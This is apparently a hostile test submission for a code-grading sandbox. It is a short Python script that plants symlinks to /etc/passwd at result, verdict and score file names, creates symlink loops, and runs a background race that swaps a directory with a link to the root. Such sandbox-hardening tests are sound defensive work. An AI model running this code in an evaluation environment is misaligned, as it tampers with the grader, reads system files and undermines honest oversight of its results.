# hostile: links in the places of results, and names that change while somebody collects or cleans up
# line: B36 B37
# verdict: passed
# prints: links made
import os
import threading

for folder in ("/tmp", "/dev/shm"):
    for name in ("result", "result.json", "output", "stdout", "stderr", "verdict", "score", "job", "solution.py", ".."):
        try:
            os.symlink("/../../../etc/passwd", f"{folder}/{name}")
        except FileExistsError:
            pass
    os.symlink(folder, folder + "/loop")
os.makedirs("/tmp/swap/deep", exist_ok=True)
os.symlink("/", "/tmp/swapped")


def race():
    while True:
        os.rename("/tmp/swap", "/tmp/swap2")
        os.rename("/tmp/swapped", "/tmp/swap")
        os.rename("/tmp/swap", "/tmp/swapped")
        os.rename("/tmp/swap2", "/tmp/swap")


threading.Thread(target=race, daemon=True).start()
print("links made")
